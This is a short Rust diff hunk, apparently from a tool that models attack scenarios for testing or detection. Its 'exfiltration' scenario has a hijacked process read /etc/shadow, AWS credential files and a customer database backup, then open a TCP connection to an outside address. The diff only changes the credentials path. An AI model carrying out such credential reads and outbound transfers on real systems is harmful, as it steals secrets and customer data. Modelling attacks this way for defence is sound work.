@@ -15,7 +15,7 @@ pub(super) fn add(b: &mut Builder, main: &Owner) {
 /// The main process itself, taken over: no new program at all.
 fn exfiltration(b: &mut Builder, main: &Owner) {
     let g = b.attack("exfiltration");
-    b.reads(g, main, &["/etc/shadow", "/root/.aws/credentials", "/var/backups/customers.sql.gz"]);
+    b.reads(g, main, &["/etc/shadow", "/home/app/.aws/credentials", "/var/backups/customers.sql.gz"]);
     b.connect(g, main, "tcp", "203.0.113.91", 443, &[]);
 }
 
